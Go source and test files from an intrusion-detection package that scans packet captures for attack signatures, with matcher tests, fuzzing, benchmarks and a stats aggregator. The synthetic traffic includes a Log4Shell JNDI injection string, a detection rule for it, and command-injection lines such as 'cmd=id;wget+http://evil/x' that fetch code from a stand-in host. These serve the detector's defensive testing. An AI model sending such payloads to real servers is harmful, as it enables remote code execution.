func sortEventsCanonical(evs []Event) {
	sort.Slice(evs, func(i, j int) bool {
		a, b := &evs[i], &evs[j]
		if !a.Time.Equal(b.Time) {
			return a.Time.Before(b.Time)
		}
		if a.Src.Addr != b.Src.Addr {
			return a.Src.Addr.Less(b.Src.Addr)
		}
		if a.Src.Port != b.Src.Port {
			return a.Src.Port < b.Src.Port
		}
		if a.Dst.Addr != b.Dst.Addr {
			return a.Dst.Addr.Less(b.Dst.Addr)
		}
		if a.Dst.Port != b.Dst.Port {
			return a.Dst.Port < b.Dst.Port
		}
		return a.SID < b.SID
	})
}

// TestScanCaptureStreamedParity: the streamed scan must deliver the same
// event multiset and exact stats as the batch sharded scan, for every shard
// and worker count.
func TestScanCaptureStreamedParity(t *testing.T) {
	var buf bytes.Buffer
	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	writeInterleavedCapture(t, w, 42, 60)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	e := jndiEngine(t)

	r, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	wantEvents, wantStats, err := ScanCaptureSharded([]pcapio.PacketSource{r}, e, ScanConfig{})
	if err != nil {
		t.Fatal(err)
	}
	if len(wantEvents) < 10 {
		t.Fatalf("weak test input: only %d events", len(wantEvents))
	}
	want := append([]Event(nil), wantEvents...)
	sortEventsCanonical(want)

	for _, shards := range []int{1, 3} {
		for _, workers := range []int{1, 4} {
			t.Run(fmt.Sprintf("shards%d_workers%d", shards, workers), func(t *testing.T) {
				r, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
				if err != nil {
					t.Fatal(err)
				}
				var got []Event
				batches := 0
				stats, err := ScanCaptureStreamed(
					[]pcapio.PacketSource{r}, e,
					ScanConfig{Shards: shards, MatchWorkers: workers},
					func(evs []Event) error {
						got = append(got, evs...)
						batches++
						return nil
					})
				if err != nil {
					t.Fatal(err)
				}
				if !reflect.DeepEqual(stats, wantStats) {
					t.Errorf("stats differ:\n got %+v\nwant %+v", stats, wantStats)
				}
				sortEventsCanonical(got)
				if len(got) != len(want) {
					t.Fatalf("got %d events, want %d", len(got), len(want))
				}
				for i := range got {
					if !reflect.DeepEqual(got[i], want[i]) {
						t.Fatalf("event %d differs:\n got %+v\nwant %+v", i, got[i], want[i])
					}
				}
				if batches == 0 {
					t.Fatal("sink never called")
				}
			})
		}
	}
}

// TestScanCaptureStreamedSinkError: a failing sink must surface its error
// without deadlocking the pipeline.
func TestScanCaptureStreamedSinkError(t *testing.T) {
	var buf bytes.Buffer
	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	writeInterleavedCapture(t, w, 7, 40)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	r, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	boom := errors.New("sink full")
	_, err = ScanCaptureStreamed([]pcapio.PacketSource{r}, jndiEngine(t), ScanConfig{Shards: 2},
		func([]Event) error { return boom })
	if !errors.Is(err, boom) {
		t.Fatalf("err = %v, want the sink error", err)
	}
}
