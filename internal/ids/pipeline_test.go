package ids

import (
	"bytes"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/rules"
	"repro/internal/tcpasm"
)

// buildCapture writes a small pcap with one exploit session, one noise
// session, and one garbage (non-IPv4) frame.
func buildCapture(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	b := packet.NewBuilder(1)
	ts := time.Date(2021, 12, 11, 0, 0, 0, 0, time.UTC)
	write := func(seg packet.Segment) {
		t.Helper()
		frame, err := b.Build(seg)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.WritePacket(ts, frame); err != nil {
			t.Fatal(err)
		}
		ts = ts.Add(5 * time.Millisecond)
	}
	session := func(cli, srv packet.Endpoint, payload string) {
		write(packet.Segment{Src: cli, Dst: srv, Seq: 100, Flags: packet.FlagSYN})
		write(packet.Segment{Src: srv, Dst: cli, Seq: 500, Ack: 101, Flags: packet.FlagSYN | packet.FlagACK})
		write(packet.Segment{Src: cli, Dst: srv, Seq: 101, Ack: 501, Flags: packet.FlagACK, Payload: []byte(payload)})
		write(packet.Segment{Src: cli, Dst: srv, Seq: 101 + uint32(len(payload)), Ack: 501, Flags: packet.FlagFIN | packet.FlagACK})
		write(packet.Segment{Src: srv, Dst: cli, Seq: 501, Ack: 102 + uint32(len(payload)), Flags: packet.FlagFIN | packet.FlagACK})
	}
	session(
		packet.Endpoint{Addr: packet.MustAddr("203.0.113.5"), Port: 40001},
		packet.Endpoint{Addr: packet.MustAddr("10.0.0.1"), Port: 8080},
		"GET /?x=${jndi:ldap://e/a} HTTP/1.1\r\nHost: h\r\n\r\n")
	session(
		packet.Endpoint{Addr: packet.MustAddr("203.0.113.6"), Port: 40002},
		packet.Endpoint{Addr: packet.MustAddr("10.0.0.2"), Port: 80},
		"GET /robots.txt HTTP/1.1\r\nHost: h\r\n\r\n")
	// A non-IPv4 frame the decoder must count and skip.
	if err := w.WritePacket(ts, []byte{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 0x86, 0xdd, 0xff}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func jndiEngine(t testing.TB) *Engine {
	t.Helper()
	r, err := rules.Parse(`alert tcp any any -> any any (msg:"jndi"; content:"${jndi:"; nocase; reference:cve,2021-44228; sid:58722;)`)
	if err != nil {
		t.Fatal(err)
	}
	return NewEngine([]rules.DatedRule{{
		Rule:      r,
		Published: time.Date(2021, 12, 10, 9, 0, 0, 0, time.UTC),
	}}, Config{PortInsensitive: true})
}

func TestScanCapture(t *testing.T) {
	data := buildCapture(t)
	r, err := pcapio.NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	events, stats, err := ScanCapture(r, jndiEngine(t))
	if err != nil {
		t.Fatal(err)
	}
	if stats.Packets != 11 {
		t.Errorf("packets = %d, want 11", stats.Packets)
	}
	if stats.DecodeErrors != 1 {
		t.Errorf("decode errors = %d, want 1", stats.DecodeErrors)
	}
	if stats.Sessions != 2 {
		t.Errorf("sessions = %d, want 2", stats.Sessions)
	}
	if len(events) != 1 || stats.MatchedEvents != 1 {
		t.Fatalf("events = %d / %d", len(events), stats.MatchedEvents)
	}
	ev := events[0]
	if ev.CVE != "2021-44228" || ev.SID != 58722 {
		t.Errorf("event = %+v", ev)
	}
	if ev.Dst.Port != 8080 {
		t.Errorf("event dst = %v", ev.Dst)
	}
	if ev.Bytes == 0 {
		t.Error("event bytes empty")
	}
	if stats.DistinctCVEs != 1 || stats.DistinctSrcIPs != 1 {
		t.Errorf("stats = %+v", stats)
	}
}

func TestScanCaptureTruncated(t *testing.T) {
	data := buildCapture(t)
	r, err := pcapio.NewReader(bytes.NewReader(data[:len(data)-4]))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := ScanCapture(r, jndiEngine(t)); err == nil {
		t.Error("truncated capture scanned without error")
	}
}

func TestMatchSessionsNilStats(t *testing.T) {
	s := tcpasm.Session{
		Client:     packet.Endpoint{Addr: packet.MustAddr("203.0.113.5"), Port: 40001},
		Server:     packet.Endpoint{Addr: packet.MustAddr("10.0.0.1"), Port: 8080},
		Start:      time.Now(),
		ClientData: []byte("GET /?x=${jndi:ldap://e} HTTP/1.1\r\n\r\n"),
		Complete:   true,
	}
	events := MatchSessions([]tcpasm.Session{s}, jndiEngine(t), nil)
	if len(events) != 1 {
		t.Fatalf("events = %d", len(events))
	}
}

func TestAuditLeadingMatches(t *testing.T) {
	pub := time.Date(2021, 12, 10, 9, 0, 0, 0, time.UTC)
	rulePub := map[int]time.Time{58722: pub, 999: pub}
	events := []Event{
		{Time: pub.Add(-6 * time.Hour), CVE: "2021-44228", SID: 58722},
		{Time: pub.Add(-10 * time.Hour), CVE: "2021-44228", SID: 58722},
		{Time: pub.Add(time.Hour), CVE: "2021-44228", SID: 58722},
		{Time: pub.Add(time.Hour), CVE: "2022-26134", SID: 999}, // no lead
		{Time: pub.Add(-100 * time.Hour), CVE: "", SID: 58722},  // noise ignored
	}
	leading := AuditLeadingMatches(events, rulePub)
	if len(leading) != 1 {
		t.Fatalf("leading = %d, want 1", len(leading))
	}
	lm := leading[0]
	if lm.CVE != "2021-44228" {
		t.Errorf("CVE = %s", lm.CVE)
	}
	if lm.Lead != 10*time.Hour {
		t.Errorf("Lead = %v, want 10h (earliest)", lm.Lead)
	}
	if lm.Events != 2 || lm.TotalEvents != 3 {
		t.Errorf("events = %d/%d, want 2/3", lm.Events, lm.TotalEvents)
	}
}

func TestAuditSortedByLead(t *testing.T) {
	pub := time.Unix(1e9, 0)
	rulePub := map[int]time.Time{1: pub, 2: pub}
	events := []Event{
		{Time: pub.Add(-time.Hour), CVE: "short", SID: 1},
		{Time: pub.Add(-100 * time.Hour), CVE: "long", SID: 2},
	}
	leading := AuditLeadingMatches(events, rulePub)
	if len(leading) != 2 || leading[0].CVE != "long" {
		t.Fatalf("ordering wrong: %+v", leading)
	}
}

func TestExclusions(t *testing.T) {
	e := NewExclusions(
		[2]string{"2021-0001", "rule fires on any API access"},
		[2]string{"2021-0002", "credential stuffing false positives"},
	)
	events := []Event{
		{CVE: "2021-0001"}, {CVE: "2021-0002"}, {CVE: "2021-44228"}, {CVE: ""},
	}
	kept := e.Apply(events)
	if len(kept) != 2 {
		t.Fatalf("kept = %d, want 2", len(kept))
	}
	for _, ev := range kept {
		if _, drop := e[ev.CVE]; drop {
			t.Errorf("excluded CVE %s survived", ev.CVE)
		}
	}
	if r, ok := e.Reason("2021-0001"); !ok || r == "" {
		t.Error("missing exclusion reason")
	}
	if _, ok := e.Reason("2021-44228"); ok {
		t.Error("reason for non-excluded CVE")
	}
	// Input not mutated, empty exclusions copy through.
	if len(events) != 4 {
		t.Error("input mutated")
	}
	if got := NewExclusions().Apply(events); len(got) != 4 {
		t.Errorf("empty exclusions dropped events: %d", len(got))
	}
}

// The study's own ruleset produces genuine leading matches (pre-publication
// exploitation), which the audit must surface rather than drop.
func TestAuditSurfacesGenuinePreDisclosure(t *testing.T) {
	pub := time.Date(2022, 5, 5, 0, 0, 0, 0, time.UTC)
	d := pub.Add(-407 * 24 * time.Hour) // F5 rule published long before... per Appendix E D-P = -407d
	rulePub := map[int]time.Time{900051: d}
	events := []Event{
		{Time: d.Add(-3 * 24 * time.Hour), CVE: "2022-1388", SID: 900051},
	}
	leading := AuditLeadingMatches(events, rulePub)
	if len(leading) != 1 {
		t.Fatalf("leading = %d", len(leading))
	}
	if leading[0].Lead != 3*24*time.Hour {
		t.Errorf("Lead = %v", leading[0].Lead)
	}
}
