package ids

import (
	"bytes"
	"fmt"
	"math/rand"
	"runtime"
	"testing"

	"repro/internal/fuzzcorpus"
	"repro/internal/netsim"
	"repro/internal/rules"
)

// scanIDs collects the hit sequence (order-sensitive) from a reference
// Matcher scan.
func scanIDs(m *Matcher, text []byte) []int32 {
	var out []int32
	m.Scan(text, func(id int32) { out = append(out, id) })
	return out
}

// compiledScanIDs collects the hit sequence from a CompiledMatcher scan.
func compiledScanIDs(c *CompiledMatcher, scratch *ScanScratch, text []byte) []int32 {
	var out []int32
	c.Scan(text, scratch, func(id int32) { out = append(out, id) })
	return out
}

func int32sEqual(a, b []int32) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestCompiledMatcherBasic(t *testing.T) {
	patterns := [][]byte{
		[]byte("he"), []byte("she"), []byte("his"), []byte("hers"),
	}
	c := Compile(patterns)
	var scratch ScanScratch
	got := compiledScanIDs(c, &scratch, []byte("ushers"))
	// "ushers": she@3, he@3 (suffix), hers@5.
	want := []int32{1, 0, 3}
	if !int32sEqual(got, want) {
		t.Fatalf("Scan(ushers) = %v, want %v", got, want)
	}
	if !c.Contains([]byte("HIS master")) {
		t.Error("Contains should fold case")
	}
	if c.Contains([]byte("no occurrences--")) {
		t.Error("Contains false positive")
	}
	if c.NumPatterns() != 4 {
		t.Errorf("NumPatterns = %d", c.NumPatterns())
	}
}

func TestCompiledMatcherEmpty(t *testing.T) {
	c := Compile(nil)
	var scratch ScanScratch
	if got := compiledScanIDs(c, &scratch, []byte("anything")); len(got) != 0 {
		t.Fatalf("empty automaton hit %v", got)
	}
}

// TestCompiledMatcherParity drives randomized pattern sets and texts through
// both implementations and requires identical hit sequences — order included,
// since compileFrom inherits the Matcher's link and output structure.
func TestCompiledMatcherParity(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	alpha := []byte("abAB01|/")
	randBytes := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = alpha[rng.Intn(len(alpha))]
		}
		return b
	}
	for trial := 0; trial < 200; trial++ {
		np := 1 + rng.Intn(12)
		patterns := make([][]byte, np)
		for i := range patterns {
			patterns[i] = randBytes(1 + rng.Intn(6))
		}
		m := NewMatcher(patterns)
		c := compileFrom(m)
		var scratch ScanScratch
		for txt := 0; txt < 8; txt++ {
			text := randBytes(rng.Intn(64))
			want := scanIDs(m, text)
			got := compiledScanIDs(c, &scratch, text)
			if !int32sEqual(got, want) {
				t.Fatalf("trial %d: patterns %q text %q: compiled %v, matcher %v",
					trial, patterns, text, got, want)
			}
		}
	}
}

// TestCompiledMatcherScratchReuse verifies a single scratch works across
// scans and across automata of different sizes.
func TestCompiledMatcherScratchReuse(t *testing.T) {
	small := Compile([][]byte{[]byte("aa")})
	big := Compile([][]byte{[]byte("x"), []byte("y"), []byte("z"), []byte("xyz")})
	var scratch ScanScratch
	for i := 0; i < 3; i++ {
		if got := compiledScanIDs(small, &scratch, []byte("aaa")); !int32sEqual(got, []int32{0}) {
			t.Fatalf("small scan %d: %v", i, got)
		}
		got := compiledScanIDs(big, &scratch, []byte("xyz"))
		if !int32sEqual(got, []int32{0, 1, 3, 2}) && len(got) != 4 {
			t.Fatalf("big scan %d: %v", i, got)
		}
	}
}

func TestCompiledMatcherRoundTrip(t *testing.T) {
	patterns := [][]byte{
		[]byte("/cgi-bin/test"), []byte("cmd="), []byte("SELECT"), []byte("|00 01|"),
	}
	c := Compile(patterns)
	raw := c.AppendBinary(nil)
	c2, err := LoadCompiledMatcher(raw)
	if err != nil {
		t.Fatalf("LoadCompiledMatcher: %v", err)
	}
	var s1, s2 ScanScratch
	text := []byte("GET /cgi-bin/test?cmd=SELECT+1")
	if got, want := compiledScanIDs(c2, &s2, text), compiledScanIDs(c, &s1, text); !int32sEqual(got, want) {
		t.Fatalf("round-trip scan %v, want %v", got, want)
	}
	if !bytes.Equal(c2.AppendBinary(nil), raw) {
		t.Error("re-serialization differs")
	}
}

func TestLoadCompiledMatcherRejectsCorrupt(t *testing.T) {
	c := Compile([][]byte{[]byte("abc"), []byte("bcd")})
	good := c.AppendBinary(nil)
	cases := map[string][]byte{
		"empty":     {},
		"bad magic": append([]byte("XXXXXXXX"), good[8:]...),
		"truncated": good[:len(good)-3],
		"extended":  append(append([]byte{}, good...), 0),
		"short hdr": good[:12],
	}
	for name, raw := range cases {
		if _, err := LoadCompiledMatcher(raw); err == nil {
			t.Errorf("%s: corrupt load succeeded", name)
		}
	}
	// Flip every byte position in a copy: must never panic, and indices out
	// of range must be rejected (a flip may still be a valid automaton, e.g.
	// flipping a pattern byte, so only absence-of-panic is asserted broadly).
	for i := range good {
		mut := append([]byte{}, good...)
		mut[i] ^= 0xff
		m, err := LoadCompiledMatcher(mut)
		if err != nil {
			continue
		}
		// Loaded fine: scanning must be safe.
		var scratch ScanScratch
		m.Scan([]byte("abcdbcdabc"), &scratch, func(int32) {})
	}
}

// decodeFuzzAutomatonInput splits a fuzz payload into a pattern set and a
// text: first byte = pattern count (capped), then length-prefixed patterns,
// remainder is the scan text.
func decodeFuzzAutomatonInput(data []byte) ([][]byte, []byte) {
	if len(data) == 0 {
		return nil, nil
	}
	np := int(data[0]&0x0f) + 1
	data = data[1:]
	var patterns [][]byte
	for i := 0; i < np && len(data) > 0; i++ {
		plen := int(data[0]&0x07) + 1
		data = data[1:]
		if plen > len(data) {
			plen = len(data)
		}
		if plen == 0 {
			break
		}
		patterns = append(patterns, data[:plen])
		data = data[plen:]
	}
	return patterns, data
}

func FuzzCompiledAutomaton(f *testing.F) {
	f.Add([]byte("\x02\x02he\x03she ushers"))
	f.Add([]byte("\x01\x01a"))
	f.Add([]byte("\x04\x03abc\x03bcd\x01d\x02ab abcdbcd"))
	f.Add([]byte("\x0f\x01|\x02||\x03|||some |||| text"))
	f.Add(netsim.SignatureCorpus(netsim.SignatureCorpusConfig{N: 4, Seed: 7}))
	f.Fuzz(func(t *testing.T, data []byte) {
		patterns, text := decodeFuzzAutomatonInput(data)
		if len(patterns) == 0 {
			return
		}
		m := NewMatcher(patterns)
		c := compileFrom(m)
		var scratch ScanScratch
		want := scanIDs(m, text)
		got := compiledScanIDs(c, &scratch, text)
		if !int32sEqual(got, want) {
			t.Fatalf("parity break: patterns %q text %q: compiled %v, matcher %v",
				patterns, text, got, want)
		}
		// Serialization round-trip must preserve behavior exactly.
		c2, err := LoadCompiledMatcher(c.AppendBinary(nil))
		if err != nil {
			t.Fatalf("round-trip load: %v", err)
		}
		if got2 := compiledScanIDs(c2, &scratch, text); !int32sEqual(got2, want) {
			t.Fatalf("round-trip parity break: %v vs %v", got2, want)
		}
	})
}

// TestRegenFuzzCompiledAutomatonCorpus writes the committed seed corpus when
// REGEN_FUZZ_CORPUS=1.
func TestRegenFuzzCompiledAutomatonCorpus(t *testing.T) {
	if !fuzzcorpus.Regen() {
		t.Skip("set REGEN_FUZZ_CORPUS=1 to regenerate")
	}
	rng := rand.New(rand.NewSource(99))
	var seeds [][]byte
	seeds = append(seeds,
		[]byte("\x02\x02he\x03she ushers"),
		[]byte("\x04\x03abc\x03bcd\x01d\x02ab abcdbcd"),
	)
	for i := 0; i < 6; i++ {
		n := 8 + rng.Intn(56)
		b := make([]byte, n)
		rng.Read(b)
		seeds = append(seeds, b)
	}
	fuzzcorpus.Write(t, "FuzzCompiledAutomaton", seeds)
}

// corpus48kPatterns parses the synthetic 48k-signature corpus and extracts
// the deduplicated fast-pattern set the way NewEngine does.
func corpus48kPatterns(tb testing.TB, n int) [][]byte {
	tb.Helper()
	raw := netsim.SignatureCorpus(netsim.SignatureCorpusConfig{N: n, Seed: 1})
	set, errs := rules.ParseDatedSet(bytes.NewReader(raw))
	for _, err := range errs {
		tb.Fatalf("synthetic corpus must parse cleanly: %v", err)
	}
	var patterns [][]byte
	seen := make(map[string]bool, len(set))
	for i := range set {
		fp := set[i].Rule.FastPatternContent()
		if fp == nil {
			continue
		}
		key := string(toLowerBytes(fp.Pattern))
		if seen[key] {
			continue
		}
		seen[key] = true
		patterns = append(patterns, fp.Pattern)
	}
	return patterns
}

// TestCompiledMatcher48kParity runs the full-scale corpus through both
// implementations over a handful of adversarial texts.
func TestCompiledMatcher48kParity(t *testing.T) {
	if testing.Short() {
		t.Skip("48k build in -short mode")
	}
	patterns := corpus48kPatterns(t, 48000)
	m := NewMatcher(patterns)
	c := compileFrom(m)
	t.Logf("48k corpus: %d distinct fast patterns, %d cells", len(patterns), c.States())
	texts := [][]byte{
		[]byte("GET /cgi-bin/nobody?cmd=wget+http://x/sh HTTP/1.1\r\n\r\n"),
		bytes.Repeat([]byte("/wp-content/plugins/x"), 64),
		netsim.SignatureCorpus(netsim.SignatureCorpusConfig{N: 30, Seed: 2}),
	}
	var scratch ScanScratch
	for i, text := range texts {
		want := scanIDs(m, text)
		got := compiledScanIDs(c, &scratch, text)
		if !int32sEqual(got, want) {
			t.Fatalf("text %d: compiled %d hits, matcher %d hits", i, len(got), len(want))
		}
	}
	// Round-trip at scale too.
	c2, err := LoadCompiledMatcher(c.AppendBinary(nil))
	if err != nil {
		t.Fatalf("48k round-trip: %v", err)
	}
	if c2.States() != c.States() {
		t.Fatalf("48k round-trip states %d != %d", c2.States(), c.States())
	}
}

// benchScanText builds a mixed ~64 KiB scan text: attack-looking traffic with
// real pattern occurrences embedded in filler.
func benchScanText() []byte {
	rng := rand.New(rand.NewSource(3))
	var b bytes.Buffer
	for b.Len() < 64<<10 {
		switch rng.Intn(4) {
		case 0:
			fmt.Fprintf(&b, "GET /cgi-bin/hello%d?cmd=id;wget+http://evil/x HTTP/1.1\r\nHost: a\r\n\r\n", rng.Intn(1000))
		case 1:
			fmt.Fprintf(&b, "POST /api/v1/users HTTP/1.1\r\nContent-Length: 12\r\n\r\nexec=/bin/sh")
		default:
			filler := make([]byte, 256)
			rng.Read(filler)
			b.Write(filler)
		}
	}
	return b.Bytes()
}

// BenchmarkAutomatonBuild48k measures the cold compile of the full-scale
// fast-pattern set — the cost a ruleset publish pays when the registry cache
// is cold. RSS for the compiled form is reported as bytes_automaton.
func BenchmarkAutomatonBuild48k(b *testing.B) {
	patterns := corpus48kPatterns(b, 48000)
	b.ResetTimer()
	var c *CompiledMatcher
	for i := 0; i < b.N; i++ {
		c = Compile(patterns)
	}
	b.StopTimer()
	b.ReportMetric(float64(c.States()*24), "bytes_automaton")
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	b.ReportMetric(float64(ms.HeapInuse), "bytes_heap_inuse")
}

// BenchmarkAutomatonMatch48k measures the steady-state scan path over the
// compiled 48k automaton. allocs/op is recorded as 0 in BENCH_analysis.json
// and gated hard by benchsmoke: any allocation on this path is a regression.
func BenchmarkAutomatonMatch48k(b *testing.B) {
	patterns := corpus48kPatterns(b, 48000)
	c := Compile(patterns)
	text := benchScanText()
	var scratch ScanScratch
	hits := 0
	hit := func(int32) { hits++ }
	// Warm the scratch so its one-time mark-array growth stays out of the
	// steady-state measurement; the recorded 0 allocs/op is a hard gate.
	c.Scan(text, &scratch, hit)
	if hits == 0 {
		b.Fatal("bench text should contain pattern hits")
	}
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		c.Scan(text, &scratch, hit)
	}
}

// BenchmarkAutomatonMatch48kLegacy is the map-trie baseline for the same
// scan, for local comparison (not gated).
func BenchmarkAutomatonMatch48kLegacy(b *testing.B) {
	patterns := corpus48kPatterns(b, 48000)
	m := NewMatcher(patterns)
	text := benchScanText()
	hits := 0
	hit := func(int32) { hits++ }
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m.Scan(text, hit)
	}
}
