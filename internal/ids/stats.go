package ids

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"sort"

	"repro/internal/tcpasm"
)

// StatsBuilder accumulates ScanStats incrementally. It is the one shared
// aggregation used by MatchSessions, MatchSessionsParallel, and the
// streaming ingest pipeline, so the three paths cannot drift: a session
// counts once, an event counts once, and distinct CVEs and source
// addresses are deduplicated across every batch fed to the builder.
type StatsBuilder struct {
	sessions  int
	matched   int
	ambiguous int
	cves      map[string]struct{}
	srcs      map[netip.Addr]struct{}
}

// NewStatsBuilder returns an empty builder.
func NewStatsBuilder() *StatsBuilder {
	return &StatsBuilder{
		cves: make(map[string]struct{}),
		srcs: make(map[netip.Addr]struct{}),
	}
}

// AddSessions records n scanned sessions (matched or not).
func (b *StatsBuilder) AddSessions(n int) { b.sessions += n }

// AddAmbiguous records n ambiguous sessions among those already counted.
func (b *StatsBuilder) AddAmbiguous(n int) { b.ambiguous += n }

// AddSessionBatch records a batch of scanned sessions, counting the
// ambiguous ones — the one-call form every scan path uses so the ambiguity
// tally cannot be forgotten.
func (b *StatsBuilder) AddSessionBatch(sessions []tcpasm.Session) {
	b.sessions += len(sessions)
	for i := range sessions {
		if sessions[i].Ambiguous {
			b.ambiguous++
		}
	}
}

// AddEvents folds a batch of attributed events into the totals.
func (b *StatsBuilder) AddEvents(events []Event) {
	b.matched += len(events)
	for i := range events {
		if events[i].CVE != "" {
			b.cves[events[i].CVE] = struct{}{}
		}
		b.srcs[events[i].Src.Addr] = struct{}{}
	}
}

// Merge folds another builder's accumulated state into b, deduplicating
// distinct CVEs and sources across both — the same result as feeding every
// batch of both builders to one. o remains usable afterwards.
func (b *StatsBuilder) Merge(o *StatsBuilder) {
	b.sessions += o.sessions
	b.matched += o.matched
	b.ambiguous += o.ambiguous
	for cve := range o.cves {
		b.cves[cve] = struct{}{}
	}
	for src := range o.srcs {
		b.srcs[src] = struct{}{}
	}
}

// Clone returns an independent copy of the builder's state.
func (b *StatsBuilder) Clone() *StatsBuilder {
	c := NewStatsBuilder()
	c.Merge(b)
	return c
}

// AppendBinary appends a deterministic binary encoding of the builder's
// state to buf — the timeline checkpoint format. Equal states encode to
// equal bytes (sets are written sorted).
func (b *StatsBuilder) AppendBinary(buf []byte) []byte {
	buf = binary.LittleEndian.AppendUint64(buf, uint64(b.sessions))
	buf = binary.LittleEndian.AppendUint64(buf, uint64(b.matched))
	buf = binary.LittleEndian.AppendUint64(buf, uint64(b.ambiguous))
	cves := make([]string, 0, len(b.cves))
	for cve := range b.cves {
		cves = append(cves, cve)
	}
	sort.Strings(cves)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(cves)))
	for _, cve := range cves {
		buf = binary.LittleEndian.AppendUint16(buf, uint16(len(cve)))
		buf = append(buf, cve...)
	}
	srcs := make([][]byte, 0, len(b.srcs))
	for src := range b.srcs {
		srcs = append(srcs, src.AsSlice()) // nil for the zero Addr
	}
	sort.Slice(srcs, func(i, j int) bool {
		if len(srcs[i]) != len(srcs[j]) {
			return len(srcs[i]) < len(srcs[j])
		}
		for k := range srcs[i] {
			if srcs[i][k] != srcs[j][k] {
				return srcs[i][k] < srcs[j][k]
			}
		}
		return false
	})
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(srcs)))
	for _, src := range srcs {
		buf = append(buf, byte(len(src)))
		buf = append(buf, src...)
	}
	return buf
}

// DecodeStatsBuilder decodes an AppendBinary encoding, returning the builder
// and the remaining bytes. It returns an error (never panics) on malformed
// input, since encodings come off disk.
func DecodeStatsBuilder(b []byte) (*StatsBuilder, []byte, error) {
	sb := NewStatsBuilder()
	need := func(n int) ([]byte, error) {
		if len(b) < n {
			return nil, fmt.Errorf("ids: stats encoding truncated (%d of %d bytes)", len(b), n)
		}
		out := b[:n]
		b = b[n:]
		return out, nil
	}
	hdr, err := need(24)
	if err != nil {
		return nil, nil, err
	}
	sb.sessions = int(binary.LittleEndian.Uint64(hdr[0:8]))
	sb.matched = int(binary.LittleEndian.Uint64(hdr[8:16]))
	sb.ambiguous = int(binary.LittleEndian.Uint64(hdr[16:24]))
	nb, err := need(4)
	if err != nil {
		return nil, nil, err
	}
	for n := binary.LittleEndian.Uint32(nb); n > 0; n-- {
		lb, err := need(2)
		if err != nil {
			return nil, nil, err
		}
		cb, err := need(int(binary.LittleEndian.Uint16(lb)))
		if err != nil {
			return nil, nil, err
		}
		sb.cves[string(cb)] = struct{}{}
	}
	if nb, err = need(4); err != nil {
		return nil, nil, err
	}
	for n := binary.LittleEndian.Uint32(nb); n > 0; n-- {
		lb, err := need(1)
		if err != nil {
			return nil, nil, err
		}
		ab, err := need(int(lb[0]))
		if err != nil {
			return nil, nil, err
		}
		var src netip.Addr
		if len(ab) > 0 {
			var ok bool
			if src, ok = netip.AddrFromSlice(ab); !ok {
				return nil, nil, fmt.Errorf("ids: stats encoding has bad address length %d", len(ab))
			}
		}
		sb.srcs[src] = struct{}{}
	}
	return sb, b, nil
}

// Stats returns the aggregate. The builder remains usable afterwards.
func (b *StatsBuilder) Stats() ScanStats {
	return ScanStats{
		Sessions:          b.sessions,
		MatchedEvents:     b.matched,
		DistinctCVEs:      len(b.cves),
		DistinctSrcIPs:    len(b.srcs),
		AmbiguousSessions: b.ambiguous,
	}
}

// setMatchStats fills the match-derived fields of stats (leaving the
// capture-derived Packets and DecodeErrors untouched). stats may be nil.
func setMatchStats(stats *ScanStats, sessions []tcpasm.Session, events []Event) {
	if stats == nil {
		return
	}
	b := NewStatsBuilder()
	b.AddSessionBatch(sessions)
	b.AddEvents(events)
	agg := b.Stats()
	stats.Sessions = agg.Sessions
	stats.MatchedEvents = agg.MatchedEvents
	stats.DistinctCVEs = agg.DistinctCVEs
	stats.DistinctSrcIPs = agg.DistinctSrcIPs
	stats.AmbiguousSessions = agg.AmbiguousSessions
}
