package ids

import "net/netip"

// StatsBuilder accumulates ScanStats incrementally. It is the one shared
// aggregation used by MatchSessions, MatchSessionsParallel, and the
// streaming ingest pipeline, so the three paths cannot drift: a session
// counts once, an event counts once, and distinct CVEs and source
// addresses are deduplicated across every batch fed to the builder.
type StatsBuilder struct {
	sessions int
	matched  int
	cves     map[string]struct{}
	srcs     map[netip.Addr]struct{}
}

// NewStatsBuilder returns an empty builder.
func NewStatsBuilder() *StatsBuilder {
	return &StatsBuilder{
		cves: make(map[string]struct{}),
		srcs: make(map[netip.Addr]struct{}),
	}
}

// AddSessions records n scanned sessions (matched or not).
func (b *StatsBuilder) AddSessions(n int) { b.sessions += n }

// AddEvents folds a batch of attributed events into the totals.
func (b *StatsBuilder) AddEvents(events []Event) {
	b.matched += len(events)
	for i := range events {
		if events[i].CVE != "" {
			b.cves[events[i].CVE] = struct{}{}
		}
		b.srcs[events[i].Src.Addr] = struct{}{}
	}
}

// Stats returns the aggregate. The builder remains usable afterwards.
func (b *StatsBuilder) Stats() ScanStats {
	return ScanStats{
		Sessions:       b.sessions,
